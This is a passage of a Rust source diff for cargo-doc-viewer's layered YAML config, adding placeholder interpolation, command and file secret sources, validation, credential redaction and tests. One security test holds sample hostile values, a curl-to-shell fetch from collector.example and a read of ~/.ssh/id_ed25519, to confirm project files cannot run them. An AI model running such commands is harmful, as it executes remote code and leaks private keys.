+    if let Ok(path) = env::var("CDV_CONFIG_PATH")
+        && !path.trim().is_empty()
+    {
+        return PathBuf::from(path);
     }
     default_config_path()
 }
@@ -284,20 +974,313 @@ fn default_config_path() -> PathBuf {
         .unwrap_or_else(|| PathBuf::from(".cargo-doc-viewer/config.yaml"))
 }
 
-fn write_default_template(path: &Path) -> std::io::Result<()> {
+fn write_template(path: &Path, template: &str) -> std::io::Result<()> {
     if let Some(parent) = path.parent() {
         fs::create_dir_all(parent)?;
     }
     let mut file = File::create(path)?;
-    file.write_all(DEFAULT_CONFIG_TEMPLATE.as_bytes())?;
+    file.write_all(template.as_bytes())?;
     Ok(())
 }
 
-fn build_bootstrap_assignment() -> String {
+/// Writes the commented template for the global file, or with `project` a
+/// project file in the current directory, returning the path written.
+pub fn init_config(project: bool, force: bool) -> Result<PathBuf, String> {
+    let (path, template) = if project {
+        let cwd = env::current_dir()
+            .map_err(|err| format!("Unable to determine current directory: {err}"))?;
+        (cwd.join(PROJECT_CONFIG_FILE), PROJECT_CONFIG_TEMPLATE)
+    } else {
+        (config_path(), DEFAULT_CONFIG_TEMPLATE)
+    };
+    if path.exists() && !force {
+        return Err(format!(
+            "{} already exists; pass --force to overwrite it",
+            path.display()
+        ));
+    }
+    write_template(&path, template)
+        .map_err(|err| format!("Unable to write {}: {err}", path.display()))?;
+    Ok(path)
+}
+
+/// JSON Schema of the config file, for editor completion.
+pub fn config_schema() -> serde_json::Value {
+    schemars::schema_for!(AppConfig).to_value()
+}
+
+/// Something `config validate` found wrong, located in a layer when the
+/// problem belongs to one file.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ConfigProblem {
+    pub path: Option<PathBuf>,
+    /// 1-based line and column.
+    pub position: Option<(usize, usize)>,
+    pub message: String,
+}
+
+impl fmt::Display for ConfigProblem {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        if let Some(path) = &self.path {
+            write!(f, "{}:", path.display())?;
+            if let Some((line, column)) = self.position {
+                write!(f, "{line}:{column}:")?;
+            }
+            f.write_str(" ")?;
+        }
+        f.write_str(&self.message)
+    }
+}
+
+/// Checks every layer as `serve` would load it: YAML syntax and types, keys
+/// the config does not know or a project file may not set, placeholders
+/// without a value and sanitize patterns the chat panel cannot compile. Reads
+/// the files directly, so the loaded config is left alone and no template is
+/// created.
+pub fn validate() -> Vec<ConfigProblem> {
+    let global_path = config_path();
+    let mut files = Vec::new();
+    if global_path.exists() {
+        files.push((global_path.clone(), false));
+    }
+    files.extend(
+        project_config_path()
+            .filter(|path| path.is_file())
+            .map(|path| (path, true)),
+    );
+
+    let schema = config_schema();
+    let mut problems = Vec::new();
+    let mut merged = serde_yaml::Value::Mapping(Default::default());
+    for (path, project) in files {
+        match fs::read_to_string(&path) {
+            Ok(raw) => {
+                if let Some(mut value) = check_layer(&path, &raw, &schema, &mut problems) {
+                    if project {
+                        problems.extend(restrict_project_layer(&mut value).into_iter().map(
+                            |section| ConfigProblem {
+                                path: Some(path.clone()),
+                                position: None,
+                                message: format!("`{section}` is only read from the global config"),
+                            },
+                        ));
+                        problems.extend(strip_sources(&mut value, "").into_iter().map(|field| {
+                            ConfigProblem {
+                                path: Some(path.clone()),
+                                position: None,
+                                message: format!(
+                                    "{field}: `!cmd` and `!file` are only allowed in the global config"
+                                ),
+                            }
+                        }));
+                    }
+                    merge_yaml(&mut merged, value);
+                }
+            }
+            Err(err) => problems.push(ConfigProblem {
+                path: Some(path),
+                position: None,
+                message: format!("unable to read: {err}"),
+            }),
+        }
+    }
+
+    // Layers that failed to parse are already reported above.
+    let mut config: AppConfig = serde_yaml::from_value(merged).unwrap_or_default();
+    let source = EnvSource::new(&global_path);
+    config.resolve_env(&source);
+    for (field, reason) in source.unresolved.take() {
+        problems.push(ConfigProblem {
+            path: None,
+            position: None,
+            message: format!("{field}: {reason}"),
+        });
+    }
+    problems.extend(
+        check_values(&config)
+            .into_iter()
+            .map(|problem| ConfigProblem {
+                path: None,
+                position: None,
+                message: format!("{}: {}", problem.field, problem.message),
+            }),
+    );
+    problems
+}
+
+/// Problems with config values: fields [`AppConfig::normalize`] would replace
+/// with defaults, and sanitize patterns the chat panel cannot compile.
+pub fn check_values(config: &AppConfig) -> Vec<FieldProblem> {
+    let mut problems = config.clone().normalize();
+    problems.extend(check_sanitize_patterns(config));
+    problems
+}
+
+/// Reports the problems of one layer, returning its YAML when it parses.
+fn check_layer(
+    path: &Path,
+    raw: &str,
+    schema: &serde_json::Value,
+    problems: &mut Vec<ConfigProblem>,
+) -> Option<serde_yaml::Value> {
+    let problem = |err: serde_yaml::Error| {
+        let position = err.location().map(|at| (at.line(), at.column()));
+        let mut message = err.to_string();
+        if let Some((line, column)) = position
+            && let Some(stripped) =
+                message.strip_suffix(&format!(" at line {line} column {column}"))
+        {
+            message = stripped.to_string();
+        }
+        ConfigProblem {
+            path: Some(path.to_path_buf()),
+            position,
+            message,
+        }
+    };
+
+    let mut value: serde_yaml::Value = match serde_yaml::from_str(raw) {
+        Ok(value) => value,
+        Err(err) => {
+            problems.push(problem(err));
+            return None;
+        }
+    };
+    let mut unknown = Vec::new();
+    unknown_keys(&value, schema, schema, "", &mut unknown);
+    problems.extend(unknown.into_iter().map(|key| ConfigProblem {
+        path: Some(path.to_path_buf()),
+        position: None,
+        message: format!("unknown key `{key}`"),
+    }));
+    // Typed again from the text so type errors keep their line numbers.
+    if let Err(err) = serde_yaml::from_str::<AppConfig>(raw) {
+        problems.push(problem(err));
+        return None;
+    }
+    untag_sources(&mut value);
+    Some(value)
+}
+
+/// Collects the dotted paths of mapping keys that `schema` does not declare.
+fn unknown_keys(
+    value: &serde_yaml::Value,
+    schema: &serde_json::Value,
+    root: &serde_json::Value,
+    prefix: &str,
+    out: &mut Vec<String>,
+) {
+    let schema = match schema
+        .get("$ref")
+        .and_then(serde_json::Value::as_str)
+        .and_then(|reference| reference.strip_prefix("#/$defs/"))
+        .and_then(|name| root.get("$defs")?.get(name))
+    {
+        Some(target) => target,
+        None => schema,
+    };
+    let join = |key: &str| {
+        if prefix.is_empty() {
+            key.to_string()
+        } else {
+            format!("{prefix}.{key}")
+        }
+    };
+    match value {
+        serde_yaml::Value::Mapping(map) => {
+            let properties = schema.get("properties");
+            let additional = schema
+                .get("additionalProperties")
+                .filter(|additional| additional.is_object());
+            for (key, value) in map {
+                let key = match key {
+                    serde_yaml::Value::String(key) => key.clone(),
+                    other => serde_yaml::to_string(other)
+                        .unwrap_or_default()
+                        .trim()
+                        .to_string(),
+                };
+                match (properties.and_then(|props| props.get(&key)), additional) {
+                    (Some(property), _) => unknown_keys(value, property, root, &join(&key), out),
+                    (None, Some(additional)) => {
+                        unknown_keys(value, additional, root, &join(&key), out)
+                    }
+                    (None, None) if properties.is_some() => out.push(join(&key)),
+                    (None, None) => {}
+                }
+            }
+        }
+        serde_yaml::Value::Sequence(items) => {
+            if let Some(item_schema) = schema.get("items") {
+                for (index, item) in items.iter().enumerate() {
+                    let path = format!("{prefix}[{index}]");
+                    unknown_keys(item, item_schema, root, &path, out);
+                }
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Compiles sanitize patterns the way the chat panel does: a leading inline
+/// flag group such as `(?i)` becomes regex flags, the rest must be valid.
+fn check_sanitize_patterns(config: &AppConfig) -> Vec<FieldProblem> {
+    let mut problems = Vec::new();
+    for (index, pattern) in config.context.sanitize_patterns.iter().enumerate() {
+        let source = pattern.regex.as_str();
+        let body = source
+            .strip_prefix("(?")
+            .and_then(|rest| rest.split_once(')'))
+            .filter(|(flags, _)| {
+                !flags.is_empty() && flags.chars().all(|c| c.is_ascii_alphabetic())
+            })
+            .map_or(source, |(_, body)| body);
+        if let Err(err) = fancy_regex::Regex::new(body) {
+            problems.push(FieldProblem {
+                field: format!("context.sanitize_patterns[{index}].regex"),
+                message: format!("{source:?} is not a valid regex: {err}"),
+            });
+        }
+    }
+    problems
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum BootstrapTarget {
+    /// HTML rewritten on disk by `enhance`, usually opened via `file://`.
+    Static,
+    /// HTML injected at response time by `serve`.
+    Server,
+}
+
+/// Static pages end up published, so credentials are removed and listed
+/// under `redacted` for the panel to ask for a key instead. `written` is the
+/// merged config before resolution, which tells resolved secrets apart.
+fn render_bootstrap(mut config: AppConfig, written: &AppConfig, target: BootstrapTarget) -> String {
+    let mut redacted = Vec::new();
+    match target {
+        BootstrapTarget::Static => redacted = config.strip_credentials(written),
+        BootstrapTarget::Server => {
+            config.api.headers.clear();
+            for profile in config.profiles.values_mut() {
+                profile.headers.clear();
+            }
+        }
+    }
+    // Everything but the config itself needs the server.
+    let served = |path: &'static str| (target == BootstrapTarget::Server).then_some(path);
     let payload = BootstrapPayload {
         version: env!("CARGO_PKG_VERSION"),
         config_path: config_path().display().to_string(),
-        config: app_config(),
+        config: &config,
+        chat_endpoint: served(CHAT_PROXY_PATH),
+        events_endpoint: served(crate::events::EVENTS_PATH),
+        retrieve_endpoint: served(crate::retrieval::RETRIEVE_PATH),
+        settings_page: served(crate::settings::SETTINGS_PAGE_PATH),
+        state_endpoint: served(crate::state::STATE_PATH),
+        transcripts_endpoint: served(crate::transcripts::TRANSCRIPTS_PATH),
+        notes_endpoint: served(crate::notes::NOTES_PATH),
+        redacted,
     };
 
     let json = match serde_json::to_string(&payload) {
@@ -312,7 +1295,29 @@ fn build_bootstrap_assignment() -> String {
     format!("window.__CDV_BOOTSTRAP__ = {safe_json};")
 }
 
-fn escape_json_for_script(json: &str) -> String {
+/// Header names whose values are API keys, tokens or session cookies.
+fn is_credential_header(name: &str) -> bool {
+    let name = name.to_ascii_lowercase();
+    ["auth", "key", "token", "secret", "cookie", "password"]
+        .iter()
+        .any(|marker| name.contains(marker))
+}
+
+fn mask_secret(value: &str) -> String {
+    let chars: Vec<char> = value.trim().chars().collect();
+    if chars.is_empty() {
+        return String::new();
+    }
+    if chars.len() <= 8 {
+        return "***".to_string();
+    }
+    let head: String = chars[..4].iter().collect();
+    let tail: String = chars[chars.len() - 4..].iter().collect();
+    format!("{head}…{tail}")
+}
+
+/// Makes JSON safe to embed in an inline `<script>`.
+pub fn escape_json_for_script(json: &str) -> String {
     json.replace("</", "<\\/")
 }
 
@@ -321,18 +1326,54 @@ struct BootstrapPayload<'a> {
     version: &'static str,
     config_path: String,
     config: &'a AppConfig,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    chat_endpoint: Option<&'static str>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    events_endpoint: Option<&'static str>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    retrieve_endpoint: Option<&'static str>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    settings_page: Option<&'static str>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    state_endpoint: Option<&'static str>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    transcripts_endpoint: Option<&'static str>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    notes_endpoint: Option<&'static str>,
+    /// Config fields left out because they hold credentials.
+    #[serde(skip_serializing_if = "Vec::is_empty")]
+    redacted: Vec<String>,
 }
 
 const DEFAULT_CONFIG_TEMPLATE: &str = r#"# Cargo Doc Viewer AI chat configuration
 # Automatically generated on first launch. Update the values to match your environment.
-# You can reference environment variables via $VAR or ${VAR}. Values are resolved
+# You can reference environment variables via $VAR or ${VAR} anywhere in an api or
+# profiles value (e.g. "Bearer ${OPENAI_API_KEY}"; write $$ for a literal $); other
+# sections keep $ as written. Values are resolved
 # from the process environment, a .env file next to this config, then the current
 # working directory, and finally $HOME/.env when the tool launches.
+# Secrets can also come from a command or a file:
+#   Authorization: !cmd "pass show openai"
+#   x-api-key: !file ~/.secrets/anthropic
 api:
+  # openai (and compatible servers), anthropic, ollama, or mock for offline
+  # answers built from the page context.
+  provider: openai
   base_url: https://api.openai.com/v1
   model: gpt-4.1-mini
   timeout_ms: 15000
   headers: {}
+# Named alternatives to `api`, switchable from the chat panel when using
+# `serve`. Unset fields take the provider's defaults, e.g.
+#   claude:
+#     provider: anthropic
+#     model: claude-sonnet-4-5
+#     headers:
+#       x-api-key: $ANTHROPIC_API_KEY
+#   local:
+#     provider: ollama
+#     model: llama3.1
+profiles: {}
 prompts:
   system: |-
     You are Cargo Doc Viewer’s AI assistant. Provide clear, concise answers grounded in the supplied Rust documentation context. If the context is insufficient, ask for clarification instead of guessing.
@@ -349,70 +1390,175 @@ context:
   sanitize_patterns:
     - regex: "(?i)apikey=[A-Za-z0-9_-]+"
       replacement: "[redacted]"
+  # Documentation chunks retrieved from other pages for each question when
+  # using `serve` (0 disables), and their share of the prompt.
+  retrieval_top_k: 5
+  retrieval_tokens_budget: 1500
 ui:
   language: auto
   show_context_preview: true
   allow_prompt_edit: true
+doc:
+  # Default arguments for `cargo doc` when serve generates docs, e.g.
+  # ["--document-private-items", "--all-features"]. Arguments given after
+  # `--` on the command line replace this list.
+  args: []
+# CSS and JS files in ~/.cargo-doc-viewer/plugins/ are added to every page
+# after the built-in UI. A plugin is named after its files (tracker.css and
+# tracker.js make up `tracker`); set it to false to turn it off, e.g.
+#   tracker: false
+plugins: {}
+# Also load the project's .cargo-doc-viewer/plugins/. Its scripts run on the
+# server's pages with access to your notes, transcripts and chat, so only
+# enable this for repositories you trust.
+project_plugins: false
 "#;
 
+const PROJECT_CONFIG_TEMPLATE: &str = r#"# Cargo Doc Viewer project configuration
+# Merged over the global config (~/.cargo-doc-viewer/config.yaml): only the keys
+# set here override it. Commit this file to share settings with your team.
+# Only prompts, context, ui, doc and plugins are read from it; api and profiles
+# stay in the global config with your credentials, e.g.
+#
+# prompts:
+#   fallback_language: English
+# context:
+#   retrieval_top_k: 8
+# doc:
+#   args: ["--all-features"]
+# plugins:
+#   tracker: false
+"#;
+
+/// Marks values read from a command's output or a file; `!cmd` and `!file`
+/// tags are stored in this form (see [`untag_sources`]).
+const CMD_PREFIX: &str = "!cmd ";
+const FILE_PREFIX: &str = "!file ";
+
 struct EnvSource {
     vars: HashMap<String, String>,
+    /// `(field, reason)` for values that could not be resolved.
+    unresolved: RefCell<Vec<(String, String)>>,
 }
 
 impl EnvSource {
     fn new(config_path: &Path) -> Self {
         let mut vars: HashMap<String, String> = env::vars().collect();
-
-        Self::merge_env_file(config_path.parent(), &mut vars);
-        Self::merge_env_file(env::current_dir().ok().as_deref(), &mut vars);
-        Self::merge_env_file(dirs::home_dir().as_deref(), &mut vars);
-
-        Self { vars }
+        for dir in env_file_dirs(config_path) {
+            Self::merge_env_file(&dir, &mut vars);
+        }
+        Self {
+            vars,
+            unresolved: RefCell::default(),
+        }
     }
 
     fn lookup(&self, key: &str) -> Option<&str> {
         self.vars.get(key).map(|s| s.as_str())
     }
 
-    fn merge_env_file(dir: Option<&Path>, vars: &mut HashMap<String, String>) {
-        let Some(dir) = dir else {
-            return;
-        };
+    fn merge_env_file(dir: &Path, vars: &mut HashMap<String, String>) {
         let env_path = dir.join(".env");
         if let Ok(iter) = dotenvy::from_path_iter(&env_path) {
             for item in iter.flatten() {
-                if !vars.contains_key(&item.0) {
-                    vars.insert(item.0, item.1);
+                if let Entry::Vacant(e) = vars.entry(item.0) {
+                    e.insert(item.1);
                 }
             }
         }
     }
 }
 
-fn resolve_string(value: &mut String, field: &str, env: &EnvSource) {
+/// Directories whose `.env` files fill placeholders, highest priority first:
+/// next to the global config, the working directory, then the home directory.
+fn env_file_dirs(config_path: &Path) -> Vec<PathBuf> {
+    [
+        config_path.parent().map(Path::to_path_buf),
+        env::current_dir().ok(),
+        dirs::home_dir(),
+    ]
+    .into_iter()
+    .flatten()
+    .collect()
+}
+
+/// Resolves a config value in place: `!cmd` and `!file` sources are replaced
+/// by their output; with `placeholders`, other values have `$VAR` and `${VAR}`
+/// interpolated. Values that cannot be resolved are cleared and recorded on
+/// `env`.
+fn resolve_string(value: &mut String, field: &str, env: &EnvSource, placeholders: bool) {
     let trimmed = value.trim();
-    if let Some(name) = extract_env_ref(trimmed) {
-        if let Some(resolved) = env.lookup(name) {
-            *value = resolved.to_string();
-        } else {
-            eprintln!(
-                "cargo-doc-viewer: Environment placeholder ${name} for {field} not found; leaving empty."
-            );
+    let resolved = if let Some(command) = trimmed.strip_prefix(CMD_PREFIX) {
+        secrets::command_output(command.trim())
+    } else if let Some(path) = trimmed.strip_prefix(FILE_PREFIX) {
+        match interpolate(path.trim(), |name| env.lookup(name)) {
+            Ok(path) => secrets::file_contents(&path),
+            Err(name) => Err(missing_variable(&name)),
+        }
+    } else if placeholders && value.contains('$') {
+        interpolate(value, |name| env.lookup(name)).map_err(|name| missing_variable(&name))
+    } else {
+        return;
+    };
+    match resolved {
+        Ok(resolved) => *value = resolved,
+        Err(reason) => {
+            env.unresolved
+                .borrow_mut()
+                .push((field.to_string(), reason));
             value.clear();
         }
     }
 }
 
-fn extract_env_ref(value: &str) -> Option<&str> {
-    if let Some(rest) = value.strip_prefix("${") {
-        return rest.strip_suffix('}');
-    }
-    if let Some(rest) = value.strip_prefix('$') {
-        if rest.chars().all(is_valid_env_char) && !rest.is_empty() {
-            return Some(rest);
-        }
+fn missing_variable(name: &str) -> String {
+    format!("placeholder ${name} is not set in the environment or a .env file")
+}
+
+/// Replaces every `$VAR` and `${VAR}` in `value`; `$$` is a literal `$`, as
+/// is a `$` not followed by a name. Fails with the first unset name.
+fn interpolate<'a>(
+    value: &str,
+    lookup: impl Fn(&str) -> Option<&'a str>,
+) -> Result<String, String> {
+    let mut out = String::with_capacity(value.len());
+    let mut rest = value;
+    while let Some(start) = rest.find('$') {
+        out.push_str(&rest[..start]);
+        let after = &rest[start + 1..];
+        let (name, remainder) = if let Some(escaped) = after.strip_prefix('$') {
+            out.push('$');
+            rest = escaped;
+            continue;
+        } else if let Some(braced) = after.strip_prefix('{')
+            && let Some(end) = braced.find('}')
+            && end > 0
+        {
+            (&braced[..end], &braced[end + 1..])
+        } else if after.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
+            let end = after
+                .find(|c: char| !is_valid_env_char(c))
+                .unwrap_or(after.len());
+            (&after[..end], &after[end..])
+        } else {
+            out.push('$');
+            rest = after;
+            continue;
+        };
+        out.push_str(lookup(name).ok_or_else(|| name.to_string())?);
+        rest = remainder;
     }
-    None
+    out.push_str(rest);
+    Ok(out)
+}
+
+/// Values that name a secret rather than hold one: placeholders and
+/// `!cmd`/`!file` sources.
+fn is_reference(value: &str) -> bool {
+    let value = value.trim();
+    value.starts_with(CMD_PREFIX)
+        || value.starts_with(FILE_PREFIX)
+        || interpolate(value, |_| None).is_err()
 }
 
 fn is_valid_env_char(c: char) -> bool {
@@ -446,6 +1592,7 @@ mod tests {
                 ("API_MODEL".to_string(), "gpt-test".to_string()),
                 ("TOKEN".to_string(), "abc123".to_string()),
             ]),
+            unresolved: RefCell::default(),
         };
 
         cfg.resolve_env(&env);
@@ -454,4 +1601,408 @@ mod tests {
         assert_eq!(cfg.api.model, "gpt-test");
         assert_eq!(cfg.api.headers.get("Authorization").unwrap(), "abc123");
     }
+
+    #[test]
+    fn interpolates_placeholders_inside_values() {
+        let mut cfg = AppConfig::default();
+        cfg.api
+            .headers
+            .insert("Authorization".to_string(), "Bearer ${TOKEN}".to_string());
+        cfg.api.base_url = "https://$HOST/v1".to_string();
+        cfg.api.model = "$MODEL-$MISSING".to_string();
+        cfg.api.headers.insert(
+            "X-Note".to_string(),
+            "Costs $5, not $ alone; literal $$HOST".to_string(),
+        );
+
+        let env = EnvSource {
+            vars: HashMap::from([
+                ("TOKEN".to_string(), "abc123".to_string()),
+                ("HOST".to_string(), "llm.internal".to_string()),
+                ("MODEL".to_string(), "gpt".to_string()),
+            ]),
+            unresolved: RefCell::default(),
+        };
+        cfg.resolve_env(&env);
+
+        assert_eq!(cfg.api.headers["Authorization"], "Bearer abc123");
+        assert_eq!(cfg.api.base_url, "https://llm.internal/v1");
+        assert_eq!(cfg.api.model, "");
+        assert_eq!(
+            cfg.api.headers["X-Note"],
+            "Costs $5, not $ alone; literal $HOST"
+        );
+        assert_eq!(
+            env.unresolved.take(),
+            [(
+                "api.model".to_string(),
+                "placeholder $MISSING is not set in the environment or a .env file".to_string()
+            )]
+        );
+    }
+
+    #[test]
+    fn placeholders_only_resolve_in_api_settings() {
+        let mut cfg = AppConfig::default();
+        cfg.prompts.system = "${AWS_SECRET_ACCESS_KEY}".to_string();
+        cfg.prompts.environment_template = "Paths start with $crate:: in $x:expr".to_string();
+        cfg.context.sanitize_patterns = vec![SanitizePattern {
+            regex: r"\$TOKEN=\w+".to_string(),
+            replacement: "$TOKEN".to_string(),
+        }];
+        cfg.doc.args = vec!["--features=$TOKEN".to_string()];
+
+        let env = EnvSource {
+            vars: HashMap::from([
+                (
+                    "AWS_SECRET_ACCESS_KEY".to_string(),
+                    "aws-secret".to_string(),
+                ),
+                ("TOKEN".to_string(), "abc123".to_string()),
+            ]),
+            unresolved: RefCell::default(),
+        };
+        cfg.resolve_env(&env);
+
+        assert_eq!(cfg.prompts.system, "${AWS_SECRET_ACCESS_KEY}");
+        assert_eq!(
+            cfg.prompts.environment_template,
+            "Paths start with $crate:: in $x:expr"
+        );
+        assert_eq!(cfg.context.sanitize_patterns[0].regex, r"\$TOKEN=\w+");
+        assert_eq!(cfg.context.sanitize_patterns[0].replacement, "$TOKEN");
+        assert_eq!(cfg.doc.args, ["--features=$TOKEN"]);
+        assert!(env.unresolved.take().is_empty());
+    }
+
+    #[test]
+    fn reads_tagged_command_and_file_sources() {
+        let mut value: serde_yaml::Value = serde_yaml::from_str(
+            "api:\n  headers:\n    Authorization: !cmd echo sk-from-cmd\n    x-api-key: !file /nonexistent/cdv-key\n",
+        )
+        .unwrap();
+        untag_sources(&mut value);
+        let mut cfg: AppConfig = serde_yaml::from_value(value).unwrap();
+        assert_eq!(cfg.api.headers["Authorization"], "!cmd echo sk-from-cmd");
+
+        let mut shown = cfg.clone();
+        shown.mask_secrets();
+        assert_eq!(shown.api.headers, cfg.api.headers);
+
+        let env = EnvSource {
+            vars: HashMap::new(),
+            unresolved: RefCell::default(),
+        };
+        cfg.resolve_env(&env);
+        assert_eq!(cfg.api.headers["Authorization"], "sk-from-cmd");
+        assert_eq!(cfg.api.headers["x-api-key"], "");
+        let unresolved = env.unresolved.take();
+        assert_eq!(unresolved[0].0, "api.headers.x-api-key");
+        assert!(
+            unresolved[0]
+                .1
+                .starts_with("unable to read /nonexistent/cdv-key")
+        );
+    }
+
+    #[test]
+    fn project_layer_cannot_run_commands_or_read_files() {
+        let mut project: serde_yaml::Value = serde_yaml::from_str(
+            "prompts:\n  system: !cmd curl https://collector.example | sh\n  fallback_language: English\ndoc:\n  args: [--all-features, !file ~/.ssh/id_ed25519]\nui:\n  language: \"!cmd id\"\n",
+        )
+        .unwrap();
+        untag_sources(&mut project);
+        assert_eq!(
+            strip_sources(&mut project, ""),
+            ["prompts.system", "doc.args[1]", "ui.language"]
+        );
+        let cfg: AppConfig = serde_yaml::from_value(project).unwrap();
+        assert_eq!(cfg.prompts.system, PromptConfig::default().system);
+        assert_eq!(cfg.prompts.fallback_language, "English");
+        assert_eq!(cfg.doc.args, ["--all-features"]);
+
+        let error = project_source_error(Path::new(".cargo-doc-viewer.yaml"), "prompts.system");
+        assert!(error.contains("only allowed in the global config"));
+    }
+
+    #[test]
+    fn project_layer_cannot_redirect_credentials() {
+        let mut merged: serde_yaml::Value = serde_yaml::from_str(
+            "api:\n  base_url: https://api.openai.com/v1\n  headers:\n    Authorization: Bearer personal\n",
+        )
+        .unwrap();
+        let mut project: serde_yaml::Value = serde_yaml::from_str(
+            "api:\n  base_url: https://collector.example\nprofiles:\n  team:\n    base_url: https://collector.example\nui:\n  language: en\nproject_plugins: true\n",
+        )
+        .unwrap();
+        assert_eq!(
+            restrict_project_layer(&mut project),
+            ["api", "profiles", "project_plugins"]
+        );
+        merge_yaml(&mut merged, project);
+
+        let cfg: AppConfig = serde_yaml::from_value(merged).unwrap();
+        assert_eq!(cfg.api.base_url, "https://api.openai.com/v1");
+        assert!(cfg.profiles.is_empty());
+        assert!(!cfg.project_plugins);
+        assert_eq!(cfg.ui.language, "en");
+    }
+
+    #[test]
+    fn project_layer_deep_merges_over_global() {
+        let mut merged: serde_yaml::Value = serde_yaml::from_str(
+            "prompts:\n  system: personal\n  fallback_language: fr\nui:\n  language: en\n",
+        )
+        .unwrap();
+        let project: serde_yaml::Value = serde_yaml::from_str(
+            "prompts:\n  system: team\ncontext:\n  sanitize_patterns:\n    - regex: secret\n      replacement: x\nui: ~\n",
+        )
+        .unwrap();
+        merge_yaml(&mut merged, project);
+
+        let cfg: AppConfig = serde_yaml::from_value(merged).unwrap();
+        assert_eq!(cfg.prompts.system, "team");
+        assert_eq!(cfg.prompts.fallback_language, "fr");
+        assert_eq!(cfg.ui.language, "en");
+        assert_eq!(cfg.context.sanitize_patterns.len(), 1);
+        assert_eq!(cfg.context.sanitize_patterns[0].regex, "secret");
+    }
+
+    #[test]
+    fn masks_header_secrets_but_not_placeholders() {
+        let mut cfg = AppConfig::default();
+        cfg.api.headers.insert(
+            "Authorization".to_string(),
+            "Bearer sk-1234567890".to_string(),
+        );
+        cfg.api
+            .headers
+            .insert("x-api-key".to_string(), "$API_KEY".to_string());
+        cfg.mask_secrets();
+
+        assert_eq!(cfg.api.headers["Authorization"], "Bear…7890");
+        assert_eq!(cfg.api.headers["x-api-key"], "$API_KEY");
+    }
+
+    #[test]
+    fn profiles_take_provider_defaults() {
+        let mut cfg: AppConfig = serde_yaml::from_str(
+            "profiles:\n  claude:\n    provider: anthropic\n  local:\n    provider: ollama\n    model: qwen2.5\n  default:\n    model: shadowed\n",
+        )
+        .unwrap();
+        cfg.normalize();
+
+        let claude = cfg.profile(Some("claude")).unwrap();
+        assert_eq!(claude.base_url, "https://api.anthropic.com/v1");
+        assert_eq!(claude.model, "claude-sonnet-4-5");
+        let local = cfg.profile(Some("local")).unwrap();
+        assert_eq!(local.base_url, "http://localhost:11434");
+        assert_eq!(local.model, "qwen2.5");
+
+        assert_eq!(
+            cfg.profile(Some("default")).unwrap().provider,
+            Provider::OpenAi
+        );
+        assert_eq!(cfg.profile(None).unwrap().model, "gpt-4.1-mini");
+        assert!(cfg.profile(Some("missing")).is_none());
+    }
+
+    #[test]
+    fn static_bootstrap_leaves_out_credentials() {
+        let mut cfg = AppConfig::default();
+        cfg.api.headers.insert(
+            "Authorization".to_string(),
+            "Bearer sk-live-secret".to_string(),
+        );
+        cfg.api.headers.insert(
+            "HTTP-Referer".to_string(),
+            "https://docs.example".to_string(),
+        );
+        let mut claude = ApiConfig::default();
+        claude
+            .headers
+            .insert("x-api-key".to_string(), "sk-ant-secret".to_string());
+        cfg.profiles.insert("claude".to_string(), claude);
+
+        let html = render_bootstrap(cfg.clone(), &cfg, BootstrapTarget::Static);
+        assert!(!html.contains("sk-live-secret"));
+        assert!(!html.contains("sk-ant-secret"));
+        assert!(html.contains("https://docs.example"));
+        assert!(html.contains(
+            r#""redacted":["api.headers.Authorization","profiles.claude.headers.x-api-key"]"#
+        ));
+
+        let served = render_bootstrap(cfg.clone(), &cfg, BootstrapTarget::Server);
+        assert!(!served.contains("sk-live-secret"));
+        assert!(!served.contains(r#""redacted":"#));
+    }
+
+    #[test]
+    fn static_bootstrap_leaves_out_resolved_placeholders() {
+        let mut written = AppConfig::default();
+        written.api.base_url = "https://llm.example/v1?key=${LLM_KEY}".to_string();
+        written
+            .api
+            .headers
+            .insert("X-Org".to_string(), "!cmd pass show org".to_string());
+        written
+            .api
+            .headers
+            .insert("X-Client".to_string(), "docs".to_string());
+        let mut cfg = written.clone();
+        cfg.api.base_url = "https://llm.example/v1?key=k-123456".to_string();
+        cfg.api
+            .headers
+            .insert("X-Org".to_string(), "org-secret".to_string());
+
+        let html = render_bootstrap(cfg, &written, BootstrapTarget::Static);
+        assert!(!html.contains("k-123456"));
+        assert!(!html.contains("org-secret"));
+        assert!(html.contains(r#""X-Client":"docs""#));
+        assert!(html.contains(r#""redacted":["api.base_url","api.headers.X-Org"]"#));
+    }
+
+    #[test]
+    fn reload_keeps_the_previous_config_when_a_layer_breaks() {
+        let root = std::env::temp_dir().join(format!("cdv-reload-{}", std::process::id()));
+        fs::create_dir_all(&root).unwrap();
+        let paths = ConfigPaths {
+            global: root.join("config.yaml"),
+            project: Some(root.join(PROJECT_CONFIG_FILE)),
+        };
+        fs::write(&paths.global, "ui:\n  language: en\n").unwrap();
+        fs::write(
+            paths.project.as_ref().unwrap(),
+            "prompts:\n  system: team\n",
+        )
+        .unwrap();
+        let slot = RwLock::new(Arc::new(LoadedConfig::load(&paths, true).unwrap()));
+
+        fs::write(paths.project.as_ref().unwrap(), "prompts: [unclosed\n").unwrap();
+        let err = reload_into(&slot, &paths).unwrap_err();
+        assert!(err.contains(PROJECT_CONFIG_FILE), "{err}");
+        let current = slot.read().unwrap().clone();
+        assert_eq!(current.effective.prompts.system, "team");
+        assert_eq!(current.layers.len(), 2);
+
+        fs::write(paths.project.as_ref().unwrap(), "prompts:\n  system: new\n").unwrap();
+        reload_into(&slot, &paths).unwrap();
+        assert_eq!(slot.read().unwrap().effective.prompts.system, "new");
+        fs::remove_dir_all(root).unwrap();
+    }
+
+    #[test]
+    fn watched_files_cover_the_project_file_and_env_files() {
+        let paths = ConfigPaths {
+            global: PathBuf::from("/home/me/.cargo-doc-viewer/config.yaml"),
+            project: Some(PathBuf::from("/work/app/.cargo-doc-viewer.yaml")),
+        };
+        let files = paths.watched_files();
+        assert_eq!(files[0], paths.global);
+        assert_eq!(files[1], PathBuf::from("/work/app/.cargo-doc-viewer.yaml"));
